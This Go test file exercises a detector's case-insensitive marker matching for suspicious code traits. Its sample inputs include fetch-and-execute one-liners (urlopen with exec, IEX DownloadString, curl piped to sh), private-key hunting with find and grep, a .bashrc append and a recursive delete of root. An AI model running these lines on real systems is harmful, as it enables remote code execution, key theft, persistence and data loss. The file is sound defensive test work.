package heuristics

import "testing"

// foldSet must answer exactly what containsFold over each needle answers.
func TestFoldSetMatchesContainsFold(t *testing.T) {
	lists := map[string][]string{
		"fetch": fetchMarkers, "exec": execMarkers, "decode": decodeMarkers,
		"socket": socketMarkers, "shell": shellMarkers, "keyHuntNames": keyHuntNames, "keyHuntText": keyHuntText,
		"codeWrite": codeWriteMarkers, "codeDelete": codeDeleteMarkers,
	}
	texts := []string{
		"", "a", "import urllib.request as u; exec(u.urlopen('http://x').read())", "EXEC(", "Eval ", "IEX(New-Object Net.WebClient).DownloadString('x')",
		"require('child_process').execSync('curl x | sh')", "use Socket;socket(S,PF_INET,SOCK_STREAM,0)", "perl -MIO::Socket -e ''",
		"print(1)", "base64.B64DECODE(x)", "find / -name id_RSA", "grep -ri 'BEGIN RSA' ~", "lwp", "LW", "x`y", "ÅÉ socket",
		"open(os.path.expanduser('~/.bashrc'),'A').write('x')", "shutil.RMTREE(p)", "fs.rmSync('/', {recursive:true})", "'w", "O_WRONLY|O_APPEND",
	}
	for name, list := range lists {
		fs := newFoldSet(list...)
		for _, text := range texts {
			want := false
			for _, n := range list {
				if containsFold(text, n) {
					want = true
				}
			}
			if got := fs.in(text); got != want {
				t.Errorf("%s: in(%q) = %v, containsFold says %v", name, text, got, want)
			}
		}
	}
	for _, text := range texts {
		var want uint32
		for _, l := range []struct {
			bit  uint32
			list []string
		}{{traitFetch, fetchMarkers}, {traitExec, execMarkers}, {traitDecode, decodeMarkers}, {traitSocket, socketMarkers},
			{traitShell, shellMarkers}, {traitPost, []string{".post("}}, {traitSocketWord, []string{"socket"}},
			{traitKeyring, keyringMarkers}, {traitSetuidRoot, setuidMarkers}, {traitFork, forkMarkers}, {traitEndless, endlessMarkers},
			{traitReplace, []string{"replace", "sub("}}, {traitWrites, []string{"write", "dump("}}, {traitDataFile, []string{".json", ".toml", ".yml"}}} {
			for _, n := range l.list {
				if containsFold(text, n) {
					want |= l.bit
				}
			}
		}
		if got := codeMarkers.scanBits(text, allCodeTraits); got != want {
			t.Errorf("scanBits(%q) = %b, want %b", text, got, want)
		}
	}
}

func FuzzFoldSet(f *testing.F) {
	f.Add("IEX(New-Object Net.WebClient).DownloadString('x')")
	f.Fuzz(func(t *testing.T, text string) {
		var want uint32
		for _, l := range []struct {
			bit  uint32
			list []string
		}{{traitFetch, fetchMarkers}, {traitExec, execMarkers}, {traitDecode, decodeMarkers}, {traitSocket, socketMarkers},
			{traitShell, shellMarkers}, {traitPost, []string{".post("}}, {traitSocketWord, []string{"socket"}},
			{traitKeyring, keyringMarkers}, {traitSetuidRoot, setuidMarkers}, {traitFork, forkMarkers}, {traitEndless, endlessMarkers},
			{traitReplace, []string{"replace", "sub("}}, {traitWrites, []string{"write", "dump("}}, {traitDataFile, []string{".json", ".toml", ".yml"}}} {
			for _, n := range l.list {
				if containsFold(text, n) {
					want |= l.bit
				}
			}
		}
		if got := codeMarkers.scanBits(text, allCodeTraits); got != want {
			t.Errorf("scanBits(%q) = %b, want %b", text, got, want)
		}
	})
}

// BenchmarkFoldSetScan scans every string of the corpus actions for the
// code traits and the key-hunting words, as the rules do for inline code
// and search patterns.
func BenchmarkFoldSetScan(b *testing.B) {
	texts := corpusStrings(b)
	for b.Loop() {
		for _, s := range texts {
			codeMarkers.scanBits(s, allCodeTraits)
			keyHuntTextSet.in(s)
		}
	}
}
